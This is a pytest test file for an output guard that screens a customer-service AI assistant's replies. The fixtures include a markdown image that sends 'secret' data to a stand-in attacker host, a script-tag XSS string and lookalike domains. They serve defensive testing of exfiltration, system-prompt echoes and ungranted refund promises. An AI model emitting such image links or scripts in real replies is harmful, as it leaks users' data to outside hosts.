from __future__ import annotations

from pathlib import Path

import pytest

from frontdesk.config.settings import GuardSettings
from frontdesk.guard.output_screen import (
    ECHO_REPLACEMENT,
    PROMISE_REPLACEMENT,
    OutputScreen,
    domain_allowed,
    escape_html,
)

POLICY = GuardSettings(allowed_link_domains=["kestrel.example"])


def check(reply: str, **kwargs: object) -> tuple[str, list[str]]:
    args: dict[str, object] = {"given": [], "policy": POLICY, **kwargs}
    result = OutputScreen().check(reply, **args)  # type: ignore[arg-type]
    return result.text, result.findings


def test_reply_keeps_only_personal_data_the_customer_gave() -> None:
    reply = "We will write to jo@example.com, not to other@example.com."
    text, findings = check(reply, given=["my mail is JO@example.com"])
    assert text == "We will write to jo@example.com, not to [EMAIL]."
    assert findings == ["pii_redacted"]


def test_addresses_in_the_operators_articles_are_allowed() -> None:
    text, _ = check("Write to claims@kestrel.example", passages=["claims@kestrel.example"])
    assert text == "Write to claims@kestrel.example"


def test_links_only_to_allowed_domains() -> None:
    text, findings = check(
        "See [help](https://help.kestrel.example/refunds), [this](https://evil.example/x) "
        "and https://evil.example/y."
    )
    assert text == "See [help](https://help.kestrel.example/refunds), this and [link removed]."
    assert findings == ["link_not_allowed"]


def test_external_markdown_images_are_removed() -> None:
    text, findings = check("Done ![x](https://evil.example/p.png?d=secret) <img src=x>")
    assert "evil" not in text
    assert "<img" not in text
    assert findings == ["external_image"]


def test_system_prompt_echo_is_replaced() -> None:
    prompt = "You are the Kestrel assistant. Answer only from the numbered passages and cite them."
    text, findings = check("Sure: " + prompt, protected=[prompt])
    assert text == ECHO_REPLACEMENT
    assert findings == ["system_prompt_echo"]


@pytest.mark.parametrize(
    "reply",
    [
        "I've issued a refund of £20 to your card.",
        "You'll get a full refund by Friday.",
        "We have cancelled your order.",
        "I will credit 10 EUR to your account.",
    ],
)
def test_promises_no_tool_granted_are_replaced(reply: str) -> None:
    text, findings = check(reply)
    assert text == PROMISE_REPLACEMENT
    assert findings[0].startswith("ungranted_promise:")


def test_promises_backed_by_a_tool_or_an_article_stay() -> None:
    assert check("I've issued a refund of £20.", granted_tools=["issue_refund"])[0] == (
        "I've issued a refund of £20."
    )
    article = "You will receive a refund within 5 working days of approval."
    assert check(article, passages=[article])[0] == article
    assert check("You will receive an email shortly.")[0] == "You will receive an email shortly."


def test_domain_matching() -> None:
    assert domain_allowed("https://kestrel.example/a", ["kestrel.example"])
    assert domain_allowed("https://help.kestrel.example", ["kestrel.example"])
    assert not domain_allowed("https://kestrel.example.evil.com", ["kestrel.example"])
    assert not domain_allowed("https://evilkestrel.example", ["kestrel.example"])
    assert domain_allowed("/relative/path", [])


def test_web_rendering_escapes_html() -> None:
    assert escape_html('<script>alert("x")</script>') == (
        "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;"
    )
    chat_js = Path(__file__).resolve().parents[2] / "src/frontdesk/api/static/chat.js"
    assert "innerHTML" not in chat_js.read_text().replace("never innerHTML", "")


def test_quoting_a_passage_the_prompt_embeds_is_not_an_echo() -> None:
    passage = "Refunds are paid to the original card within five working days of approval."
    prompt = f"You are the Kestrel assistant. Answer from these passages only: [1] {passage}"
    _text, findings = check(passage + " [1]", protected=[prompt], passages=[passage])
    assert findings == []


def test_the_operators_own_contacts_stay_in_what_the_assistant_writes() -> None:
    """A fraud line in a hand-off message, the support address and links to the operator's own
    site are not personal data or outside links; a stranger's number still is."""
    policy = GuardSettings(
        operator_contacts={  # type: ignore[arg-type]
            "phones": ["0800 123 4567"],
            "emails": ["help@heronvale.example"],
            "domains": ["https://www.heronvale.example/"],
        }
    )
    reply = (
        "Call our Fraud line on 0800 123 4567 or mail help@heronvale.example; see "
        "https://status.heronvale.example/now and [the guide](https://heronvale.example/g). "
        "Not 020 7946 0958, not jo@example.com, not https://evil.example/x."
    )
    result = OutputScreen().check(reply, given=[], policy=policy)
    assert result.text == (
        "Call our Fraud line on 0800 123 4567 or mail help@heronvale.example; see "
        "https://status.heronvale.example/now and [the guide](https://heronvale.example/g). "
        "Not [PHONE], not [EMAIL], not [link removed]."
    )
    assert result.findings == ["pii_redacted", "link_not_allowed"]


def test_the_workspaces_contacts_count_unless_the_policy_says_not() -> None:
    from frontdesk.guard.own_contacts import find_contacts

    found = find_contacts(
        ["Fraud: call 0800 123 4567 (24 hours). Status: https://status.heronvale.example"]
    )
    screen = OutputScreen(workspace_contacts=found)
    reply = "Ring 0800 123 4567, see https://status.heronvale.example/now"
    assert screen.check(reply, given=[]).text == reply
    only_configured = GuardSettings(operator_contacts={"from_workspace": False})  # type: ignore[arg-type]
    assert screen.check(reply, given=[], policy=only_configured).text == (
        "Ring [PHONE], see [link removed]"
    )


def test_line_breaks_of_a_reply_are_kept() -> None:
    reply = "Two ways to pay:\n\n- by card in the app.\n- by bank transfer.\nThanks!"
    text, findings = check(reply)
    assert text == reply
    assert findings == []
